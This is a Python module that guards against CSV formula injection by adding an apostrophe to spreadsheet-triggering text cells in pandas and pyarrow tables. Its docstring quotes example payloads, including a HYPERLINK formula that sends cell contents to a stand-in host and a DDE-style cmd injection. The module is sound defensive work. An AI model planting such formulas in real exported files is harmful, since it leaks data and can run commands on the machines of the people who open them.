"""CSV formula-injection guard: text that a spreadsheet would run as a formula gets a ``'``.

A deposit named ``=HYPERLINK("http://x.example/?"&A1,"click")`` or ``@SUM(1+1)*cmd|...``
written raw to a CSV runs as a formula when an analyst opens the file in a spreadsheet. The
usual rule (OWASP, "CSV injection"): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is written with a leading apostrophe, which spreadsheets show as text
and do not evaluate. Only text columns are touched, and a text cell that is a plain number
(``-13.96``, ``+5``, ``1e-3``) is left as it is; numeric columns are never touched. Programs
that read the CSV back can ask for raw values (``guard=False`` / ``--raw-csv``).
"""

from __future__ import annotations

import pandas as pd

TRIGGER = r"^[=+\-@\t\r]"
"""A cell starting with one of these may be run as a formula."""
NUMBER = r"^\s*[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\s*$"
"""A plain number in text: harmless, and a spreadsheet reads it as a number anyway."""
PREFIX = "'"


def guard_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every risky text cell prefixed (a copy when anything changed)."""
    out = frame
    for col in frame.columns:
        s = frame[col]
        if not (s.dtype == object or pd.api.types.is_string_dtype(s)):
            continue
        text = s.astype("string")
        risky = text.str.contains(TRIGGER, regex=True) & ~text.str.contains(NUMBER, regex=True)
        risky = risky.fillna(False)
        if risky.any():
            if out is frame:
                out = frame.copy()
            out[col] = s.mask(risky.to_numpy(dtype=bool), PREFIX + text)
    return out


def guard_table(table):
    """The same for a :class:`pyarrow.Table` (string columns only), vectorised in Arrow."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for col in table.columns:
        if pa.types.is_string(col.type) or pa.types.is_large_string(col.type):
            risky = pc.and_kleene(pc.match_substring_regex(col, TRIGGER),
                                  pc.invert(pc.match_substring_regex(col, NUMBER)))
            risky = pc.fill_null(risky, False)
            if pc.any(risky).as_py():
                col = pc.if_else(risky, pc.binary_join_element_wise(PREFIX, col, ""), col)
        columns.append(col)
    return pa.Table.from_arrays(columns, schema=table.schema)
